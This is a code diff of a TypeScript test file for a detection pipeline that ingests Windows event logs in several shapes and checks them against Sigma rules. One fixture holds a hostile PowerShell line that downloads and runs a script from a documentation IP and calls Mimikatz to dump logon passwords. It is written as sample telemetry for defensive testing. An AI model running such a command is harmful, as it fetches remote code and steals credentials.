@@ -5,126 +5,17 @@
 import assert from 'node:assert/strict';
 import { test } from 'node:test';
 import { describeSigmaFamily, type SigmaCase } from './helpers/sigma-cases.js';
-
-const now = () => new Date().toISOString();
-const HOST = 'WS-042.corp.example';
-
-/** Raw evtx rendered as JSON (the shape of evtx_dump / xmltodict): System header and EventData Data items. */
-function evtx(channel: string, provider: string, eventId: number, data: Record<string, string> | string[]) {
-  return {
-    Event: {
-      '@xmlns': 'http://schemas.microsoft.com/win/2004/08/events/event',
-      System: {
-        Provider: { '@Name': provider, '@Guid': '{54849625-5478-4994-a5ba-3e3b0328c30d}' },
-        EventID: eventId,
-        Version: 2,
-        Level: 0,
-        Task: 13312,
-        Opcode: 0,
-        Keywords: '0x8020000000000000',
-        TimeCreated: { '@SystemTime': now() },
-        EventRecordID: 184523,
-        Execution: { '@ProcessID': 4, '@ThreadID': 7612 },
-        Channel: channel,
-        Computer: HOST,
-        Security: null,
-      },
-      EventData: {
-        Data: Array.isArray(data) ? data : Object.entries(data).map(([name, text]) => ({ '@Name': name, '#text': text })),
-      },
-    },
-  };
-}
-
-/** Winlogbeat 8 / Elastic Agent: ECS beside winlog.*; log.level must not make it an application log. */
-function winlogbeat(channel: string, provider: string, eventId: number, data: Record<string, string>) {
-  return {
-    '@timestamp': now(),
-    agent: { id: '1f0d2a7c-5b1e-4c55-9d6e-3c1b2f9e8a10', type: 'winlogbeat', version: '8.11.1' },
-    ecs: { version: '8.0.0' },
-    event: { code: String(eventId), kind: 'event', provider, created: now() },
-    host: { name: HOST.toLowerCase(), os: { family: 'windows' } },
-    log: { level: 'information' },
-    message: `Event ${eventId} from ${provider}`,
-    winlog: {
-      api: 'wineventlog',
-      channel,
-      computer_name: HOST,
-      event_id: String(eventId),
-      provider_name: provider,
-      record_id: 99182,
-      process: { pid: 4, thread: { id: 5120 } },
-      event_data: data,
-    },
-  };
-}
-
-/** NXLog im_msvistalog with to_json(): header fields flat, event data as top-level fields. */
-function nxlog(channel: string, sourceName: string, eventId: number, data: Record<string, string>) {
-  return {
-    EventTime: now().replace('T', ' ').slice(0, 19),
-    Hostname: HOST,
-    Keywords: '-9223372036854775808',
-    EventType: 'INFO',
-    SeverityValue: 2,
-    Severity: 'INFO',
-    EventID: eventId,
-    SourceName: sourceName,
-    ProviderGuid: '{5770385F-C22A-43E0-BF4C-06F5698FFBD9}',
-    Version: 5,
-    Task: 1,
-    OpcodeValue: 0,
-    RecordNumber: 771234,
-    ProcessID: 3124,
-    ThreadID: 4456,
-    Channel: channel,
-    Domain: 'NT AUTHORITY',
-    AccountName: 'SYSTEM',
-    UserID: 'S-1-5-18',
-    AccountType: 'User',
-    Message: `Event ${eventId}`,
-    EventReceivedTime: now().replace('T', ' ').slice(0, 19),
-    SourceModuleName: 'eventlog',
-    SourceModuleType: 'im_msvistalog',
-    ...data,
-  };
-}
-
-/** Fluent Bit's winevtlog input: flat header and the event data as positional StringInserts. */
-function fluentBit(channel: string, provider: string, eventId: number, inserts: string[]) {
-  return {
-    ProviderName: provider,
-    ProviderGuid: '{5770385F-C22A-43E0-BF4C-06F5698FFBD9}',
-    Qualifiers: '',
-    EventID: eventId,
-    Version: 2,
-    Level: 4,
-    Task: 13,
-    Opcode: 0,
-    Keywords: '0x8000000000000000',
-    TimeCreated: now(),
-    EventRecordID: 55012,
-    ActivityID: '',
-    RelatedActivityID: '',
-    ProcessID: 3124,
-    ThreadID: 4456,
-    Channel: channel,
-    Computer: HOST,
-    UserID: 'S-1-5-18',
-    Message: `Registry value set: ${inserts[6] ?? ''}`,
-    StringInserts: inserts,
-  };
-}
-
-/** The flat form evtx converters and SIEM exports use: EventID, Channel, Provider_Name, data top-level. */
-function flat(channel: string, provider: string, eventId: number, data: Record<string, string>) {
-  return { EventID: eventId, Channel: channel, Provider_Name: provider, Computer: HOST, ...data };
-}
-
-const SYSMON = 'Microsoft-Windows-Sysmon/Operational';
-const SYSMON_PROVIDER = 'Microsoft-Windows-Sysmon';
-const SECURITY_PROVIDER = 'Microsoft-Windows-Security-Auditing';
-const PS_OPERATIONAL = 'Microsoft-Windows-PowerShell/Operational';
+import {
+  SYSMON,
+  SYSMON_PROVIDER,
+  SECURITY_PROVIDER,
+  PS_OPERATIONAL,
+  evtx,
+  winlogbeat,
+  nxlog,
+  fluentBit,
+  flat,
+} from './helpers/windows-shapes.js';
 
 const cases: SigmaCase[] = [
   {
@@ -218,7 +109,8 @@ const cases: SigmaCase[] = [
     record: evtx(PS_OPERATIONAL, 'Microsoft-Windows-PowerShell', 4104, {
       MessageNumber: '1',
       MessageTotal: '1',
-      ScriptBlockText: "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1'); Invoke-Mimikatz -Command '\"privilege::debug\" \"sekurlsa::logonpasswords\"'",
+      ScriptBlockText:
+        'IEX (New-Object Net.WebClient).DownloadString(\'http://203.0.113.9/a.ps1\'); Invoke-Mimikatz -Command \'"privilege::debug" "sekurlsa::logonpasswords"\'',
       ScriptBlockId: '9f1c1c38-5b0e-4f4f-9d7e-2d0c7e3f5a11',
       Path: '',
     }),
@@ -227,7 +119,8 @@ const cases: SigmaCase[] = [
   {
     name: 'Winlogbeat, PowerShell 4103: module logging of Get-Clipboard',
     record: winlogbeat(PS_OPERATIONAL, 'Microsoft-Windows-PowerShell', 4103, {
-      ContextInfo: '        Severity = Informational\n        Host Name = ConsoleHost\n        Command Name = Get-Clipboard\n',
+      ContextInfo:
+        '        Severity = Informational\n        Host Name = ConsoleHost\n        Command Name = Get-Clipboard\n',
       UserData: '',
       Payload: 'CommandInvocation(Get-Clipboard): "Get-Clipboard"\n',
     }),
@@ -385,29 +278,34 @@ const malformed = [
   },
 ];
 
-describeSigmaFamily('Windows event logs', cases, (context) => {
-  test('malformed events in a recognised shape are stored beside the others', async () => {
-    const db = context().server.sightline.database.db;
-    const stored = await db.selectFrom('telemetry_records').select('record').execute();
-    assert.equal(stored.length, cases.length + malformed.length);
-  });
+describeSigmaFamily(
+  'Windows event logs',
+  cases,
+  (context) => {
+    test('malformed events in a recognised shape are stored beside the others', async () => {
+      const db = context().server.sightline.database.db;
+      const stored = await db.selectFrom('telemetry_records').select('record').execute();
+      assert.equal(stored.length, cases.length + malformed.length);
+    });
 
-  test('Security 4688 and 5156 fill the process and network tables under Sysmon names', async () => {
-    const db = context().server.sightline.database.db;
-    const processes = await db.selectFrom('endpoint_process_events').selectAll().execute();
-    const vssadmin = processes.find((row) => row.process_name === 'vssadmin.exe');
-    assert.ok(vssadmin, `a process row for 4688; rows: ${processes.map((row) => row.process_name).join(', ')}`);
-    assert.equal(vssadmin.source_format, 'windows_security');
-    assert.equal(vssadmin.pid, 0x1a2c);
-    assert.equal(vssadmin.parent_pid, 0x1f40);
-    assert.equal(vssadmin.user_name, 'CORP\\alice');
-    assert.equal(vssadmin.parent_process_name, 'cmd.exe');
-    const connections = await db.selectFrom('network_process_events').selectAll().execute();
-    const certutil = connections.find((row) => row.process_name === 'certutil.exe');
-    assert.ok(certutil, 'a network row for 5156');
-    assert.equal(certutil.destination_ip, '203.0.113.50');
-    assert.equal(certutil.destination_port, 443);
-    assert.equal(certutil.direction, 'outbound');
-    assert.equal(certutil.protocol, 'tcp');
-  });
-}, malformed);
+    test('Security 4688 and 5156 fill the process and network tables under Sysmon names', async () => {
+      const db = context().server.sightline.database.db;
+      const processes = await db.selectFrom('endpoint_process_events').selectAll().execute();
+      const vssadmin = processes.find((row) => row.process_name === 'vssadmin.exe');
+      assert.ok(vssadmin, `a process row for 4688; rows: ${processes.map((row) => row.process_name).join(', ')}`);
+      assert.equal(vssadmin.source_format, 'windows_security');
+      assert.equal(vssadmin.pid, 0x1a2c);
+      assert.equal(vssadmin.parent_pid, 0x1f40);
+      assert.equal(vssadmin.user_name, 'CORP\\alice');
+      assert.equal(vssadmin.parent_process_name, 'cmd.exe');
+      const connections = await db.selectFrom('network_process_events').selectAll().execute();
+      const certutil = connections.find((row) => row.process_name === 'certutil.exe');
+      assert.ok(certutil, 'a network row for 5156');
+      assert.equal(certutil.destination_ip, '203.0.113.50');
+      assert.equal(certutil.destination_port, 443);
+      assert.equal(certutil.direction, 'outbound');
+      assert.equal(certutil.protocol, 'tcp');
+    });
+  },
+  malformed,
+);
